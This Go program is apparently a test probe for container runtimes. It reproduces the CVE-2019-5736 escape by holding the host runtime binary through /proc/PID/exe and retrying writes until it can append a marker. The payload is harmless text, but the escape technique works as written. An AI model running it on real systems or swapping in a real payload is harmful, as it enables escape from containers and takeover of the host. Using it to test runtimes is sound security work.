//go:build linux

// Overwrite does what CVE-2019-5736 did: inside a container, it writes to the
// program that made the container. It finds that program through
// /proc/PID/exe, a link that leads out of every root directory, and keeps hold
// of it. While a program runs it may not be written to (ETXTBSY); the hold
// outlives the run.
//
//	overwrite DURATION NAME...
//
// It prints "ready", waits for a process that runs a file of one of the names,
// and tries to write to that file again and again until it works, or fails for
// another reason than ETXTBSY, or the time is over. It prints what came of it:
// "kit: written", or the last error.
package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	limit, err := time.ParseDuration(os.Args[1])
	if err != nil {
		fmt.Println(err)
		os.Exit(2)
	}
	deadline := time.Now().Add(limit)
	fmt.Println("ready")
	fmt.Println("kit:", attempt(deadline, os.Args[2:]))
}

func attempt(deadline time.Time, names []string) string {
	hold := -1
	for hold < 0 {
		if time.Now().After(deadline) {
			return "not seen"
		}
		hold = find(names)
	}
	for {
		err := write(hold)
		if err == nil {
			return "written"
		}
		if !errors.Is(err, unix.ETXTBSY) || time.Now().After(deadline) {
			return err.Error()
		}
	}
}

// find takes hold of the program of a process that runs one of the names.
func find(names []string) int {
	links, _ := filepath.Glob("/proc/[0-9]*/exe")
	for _, link := range links {
		name, _ := os.Readlink(link)
		if !slices.Contains(names, filepath.Base(name)) {
			continue
		}
		// O_PATH asks for no permission yet.
		if fd, err := unix.Open(link, unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
			return fd
		}
	}
	return -1
}

func write(hold int) error {
	fd, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", hold), unix.O_WRONLY|unix.O_APPEND, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	_, err = unix.Write(fd, []byte("overwritten"))
	return err
}
